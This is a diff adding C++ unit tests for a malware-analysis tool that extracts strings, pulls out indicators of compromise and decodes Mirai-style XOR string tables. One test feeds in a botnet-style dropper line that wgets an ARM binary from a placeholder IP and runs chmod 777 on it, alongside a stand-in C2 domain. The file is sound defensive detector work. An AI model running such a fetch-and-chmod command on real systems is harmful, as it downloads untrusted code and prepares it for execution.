@@ -1,0 +1,81 @@
+#include "analysis/static/strings.h"
+
+#include <gtest/gtest.h>
+
+#include <algorithm>
+
+namespace mitsu::analysis {
+namespace {
+
+std::vector<std::byte> blob(std::string_view text) {
+  auto bytes = std::as_bytes(std::span(text.data(), text.size()));
+  return {bytes.begin(), bytes.end()};
+}
+
+bool has(const std::vector<std::string>& list, std::string_view value) {
+  return std::find(list.begin(), list.end(), value) != list.end();
+}
+
+TEST(Strings, ExtractsAsciiAndUtf16) {
+  std::string data(
+      "\x01\x02hello world\x00\x03"
+      "abc\x00",
+      20);
+  std::string wide = std::string("h\0e\0l\0l\0o\0!\0", 12);
+  data += std::string("\xff\xff", 2) + wide + std::string("\x00\x00", 2);
+  auto strings = extract_strings(blob(data));
+  ASSERT_GE(strings.size(), 2u);
+  EXPECT_EQ(strings[0].text, "hello world");
+  EXPECT_EQ(strings[0].offset, 2u);
+  auto utf16 = std::find_if(strings.begin(), strings.end(), [](auto& s) { return s.utf16; });
+  ASSERT_NE(utf16, strings.end());
+  EXPECT_EQ(utf16->text, "hello!");
+}
+
+TEST(Strings, FindsIndicators) {
+  Iocs iocs;
+  extract_iocs("cd /tmp || cd /var/run; wget http://198.51.100.23:8080/bins/x.arm7; chmod 777 x",
+               iocs);
+  extract_iocs("connect 203.0.113.5:23 and 192.0.2.1 then cnc.example.com", iocs);
+  extract_iocs("libc.so.6 version 1.2.3.4.5 config.sh 999.1.1.1", iocs);
+  EXPECT_TRUE(has(iocs.urls, "http://198.51.100.23:8080/bins/x.arm7"));
+  EXPECT_TRUE(has(iocs.endpoints, "198.51.100.23:8080"));
+  EXPECT_TRUE(has(iocs.endpoints, "203.0.113.5:23"));
+  EXPECT_TRUE(has(iocs.endpoints, "192.0.2.1"));
+  EXPECT_EQ(iocs.endpoints.size(), 3u) << "no version strings or invalid octets";
+  EXPECT_TRUE(has(iocs.domains, "cnc.example.com"));
+  EXPECT_EQ(iocs.domains.size(), 1u) << iocs.domains.back();
+  ASSERT_EQ(iocs.commands.size(), 1u);
+  EXPECT_NE(iocs.commands[0].find("wget"), std::string::npos);
+}
+
+TEST(Strings, DecodesMiraiStyleXorTables) {
+  // Mirai's table: each entry XOR 0x22 (its default key 0xdeadbeef folded to one byte).
+  std::string hidden;
+  for (std::string_view entry : {"/proc/", "/dev/watchdog", "cnc.example.net", "shell"}) {
+    for (char c : entry) {
+      hidden.push_back(static_cast<char>(c ^ 0x22));
+    }
+    hidden.push_back(static_cast<char>(0x22));  // the encoded NUL
+  }
+  std::string data = std::string(64, '\0') + hidden + std::string(64, '\0') + "plain text here";
+  StringsReport report = analyze_strings(blob(data));
+  ASSERT_EQ(report.xor_keys, std::vector<std::uint8_t>{0x22});
+  EXPECT_TRUE(has(report.iocs.domains, "cnc.example.net"));
+  auto decoded = std::count_if(report.strings.begin(), report.strings.end(),
+                               [](auto& s) { return s.xor_key == 0x22; });
+  EXPECT_GE(decoded, 3);
+  for (const auto& s : report.strings) {
+    if (s.xor_key == 0x22) {
+      EXPECT_EQ(s.text.find("plain"), std::string::npos) << "readable text is not re-decoded";
+    }
+  }
+}
+
+TEST(Strings, NoKeyWithoutEvidence) {
+  std::string data = "ordinary program text with /proc/ mentioned once in clear";
+  EXPECT_TRUE(find_xor_keys(blob(data)).empty());
+}
+
+}  // namespace
+}  // namespace mitsu::analysis
